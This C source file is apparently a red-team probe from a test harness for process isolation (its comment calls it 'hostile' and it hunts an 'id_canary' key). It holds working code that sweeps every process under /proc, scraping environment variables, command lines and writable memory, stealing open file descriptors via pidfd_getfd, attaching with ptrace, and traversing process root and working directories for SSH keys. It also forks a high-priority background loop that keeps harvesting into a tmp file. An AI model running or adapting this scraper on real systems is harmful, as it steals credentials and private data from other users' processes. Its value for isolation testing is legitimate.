// reads: takes from every process that it sees whatever it may: environment, arguments, memory (two ways), descriptors (two
// ways), directories; at once, and from then on in the background. What is found goes to standard error.
#include "hostile.h"

static char piece[1 << 20];

static int memory(int out, int pid, const char *where) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    if (!maps) return 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY | O_CLOEXEC), found = 0;
    while (!found && fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        char mode[5];
        if (sscanf(line, "%lx-%lx %4s", &from, &to, mode) != 3 || mode[1] != 'w') continue;
        for (unsigned long at = from; !found && at < to && at < from + (64ul << 20); at += sizeof piece) {
            size_t most = to - at < sizeof piece ? to - at : sizeof piece;
            ssize_t n = pread(mem, piece, most, at);
            if (n <= 0) {
                struct iovec mine = {piece, most}, theirs = {(void *)at, most};
                n = process_vm_readv(pid, &mine, 1, &theirs, 1, 0);
            }
            if (n > 0) found = tell(out, where, piece, n);
        }
    }
    if (mem >= 0) close(mem);
    fclose(maps);
    return found;
}

static int descriptors(int out, int pid, const char *where) {
    int process = syscall(SYS_pidfd_open, pid, 0), found = 0;
    for (int fd = 0; fd < 100 && !found; fd++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        ssize_t n = readlink(path, piece, sizeof piece);
        if (n > 0) found |= tell(out, where, piece, n);
        struct stat it;
        if (stat(path, &it) == 0 && S_ISREG(it.st_mode) && (n = slurp(path, piece, sizeof piece)) > 0) found |= tell(out, where, piece, n);
        int taken = syscall(SYS_pidfd_getfd, process, fd, 0);
        if (taken < 0) continue;
        if (fstat(taken, &it) == 0 && S_ISREG(it.st_mode) && (n = pread(taken, piece, sizeof piece, 0)) > 0) found |= tell(out, where, piece, n);
        close(taken);
    }
    if (process >= 0) close(process);
    return found;
}

static int directories(int out, int pid, const char *where) {
    const char *names[] = {"cwd", "root"}, *keys[] = {"", "/..", "/../.."};
    int found = 0;
    for (int name = 0; name < 2; name++)
        for (int key = 0; key < 3; key++) {
            char path[128];
            snprintf(path, sizeof path, "/proc/%d/%s%s/home/.ssh/id_canary", pid, names[name], keys[key]);
            ssize_t n = slurp(path, piece, sizeof piece);
            if (n > 0) found |= tell(out, where, piece, n);
        }
    return found;
}

static int everything(int out, int mine) {
    const char *files[] = {"environ", "cmdline", "stat", "cgroup", "mountinfo", "comm"};
    int found = 0;
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && !found && (entry = readdir(proc));) {
        int pid = atoi(entry->d_name);
        if (pid <= 0 || pid == mine || pid == getpid()) continue;
        char path[64], where[64];
        for (size_t file = 0; file < sizeof files / sizeof *files && !found; file++) {
            snprintf(path, sizeof path, "/proc/%d/%s", pid, files[file]);
            ssize_t n = slurp(path, piece, sizeof piece);
            if (n > 0) found = tell(out, path, piece, n);
        }
        snprintf(where, sizeof where, "memory of %d", pid);
        found = found || memory(out, pid, where);
        snprintf(where, sizeof where, "descriptors of %d", pid);
        found = found || descriptors(out, pid, where);
        snprintf(where, sizeof where, "directories of %d", pid);
        found = found || directories(out, pid, where);
        // Whom one traces hides nothing.
        if (!found && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
            found = memory(out, pid, "a traced one");
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
    if (proc) closedir(proc);
    return found;
}

int main(int argc, char **argv) {
    (void)argc;
    prctl(PR_SET_DUMPABLE, 1);
    ssize_t n = slurp("/tmp/red-found", piece, sizeof piece);
    if (n > 0) {
        write(2, piece, n);
        return 9;
    }
    if (everything(2, getpid())) return 9;
    if (mkdir("/tmp/red-reads", 0700) == 0 && background()) {
        int out = open("/tmp/red-found", O_CREAT | O_WRONLY | O_APPEND, 0644), mine = getpid();
        nice(-20);
        while (!everything(out, mine));
        _exit(0);
    }
    int status = lab0(argv);
    n = slurp("/tmp/red-found", piece, sizeof piece);
    if (n > 0) write(2, piece, n);
    return n > 0 ? 9 : status;
}
